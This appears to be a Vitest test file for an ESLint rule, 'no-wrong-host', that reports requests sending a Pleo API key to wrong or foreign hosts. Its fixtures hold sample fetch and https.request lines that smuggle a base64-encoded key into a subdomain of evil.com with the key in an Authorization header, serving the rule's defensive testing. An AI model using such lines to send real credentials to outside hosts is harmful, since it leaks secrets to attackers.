import { describe, expect, test } from "vitest";
import { hostOf, requestOf } from "../../../../eslint-plugin/flow/request/request.ts";
import { exampleKey } from "../../../support/keys.ts";
import { lint } from "../../lint.ts";
import { callsOf, parse } from "../../parse.ts";

const KEY = exampleKey();
const AUTHORIZED = "{ headers: { Authorization: process.env.PLEO_API_KEY } }";

/** Base64 has no meaning in another letter case, so no masker knows it again. */
describe("what may be a key keeps its letter case in a host:", () => {
  const base64 = btoa(`${KEY}:`).replace(/=+$/, "");

  test.each([
    ["a request", `fetch("https://${base64}.evil.com/v1/x", ${AUTHORIZED})`],
    ["a host of Pleo's", `fetch("https://${base64}.pleo.io/v1/x", ${AUTHORIZED})`],
    ["a host named like Pleo's", `fetch("https://${base64}.pleo.evil.com/v1", ${AUTHORIZED})`],
    [
      "a host of its own",
      `https.request({ hostname: "${base64}.evil.com", path: "/v1/x", headers: { Authorization: process.env.PLEO_API_KEY } })`,
    ],
  ])("%s", (_name, code) => {
    const reports = lint(code, { rule: "no-wrong-host" });
    const texts = reports.map(({ message }) => message);
    expect(texts).toHaveLength(1);
    // Not by a matcher, whose report would show it.
    const isShown = texts.some((text) =>
      text.toLowerCase().includes(base64.slice(8, 24).toLowerCase()),
    );
    expect(isShown).toBe(false);
  });
});

describe("names of hosts have no letter case:", () => {
  test.each([
    ["https://EXTERNAL.Pleo.io/v1", []],
    ["https://API.Pleo.io/v1", ["elsewhere"]],
    ["https://Other.Pleo.IO/v1", ["elsewhere"]],
    ["https://LOCALHOST.Test/v1", []],
    ["https://Example.com/v1", ["foreign"]],
  ])("%s", (url, expected) => {
    const reports = lint(`fetch("${url}", ${AUTHORIZED})`, { rule: "no-wrong-host" });
    expect(reports.map(({ messageId }) => messageId)).toEqual(expected);
  });

  test("the same host twice is one", () => {
    const sourceCode = parse(`fetch(a ? "https://A.example/x" : "https://a.example/y")`);
    const [request] = callsOf(sourceCode).flatMap((call) => requestOf(sourceCode, call) ?? []);
    expect(request && hostOf(request)).toBe("A.example");
  });
});
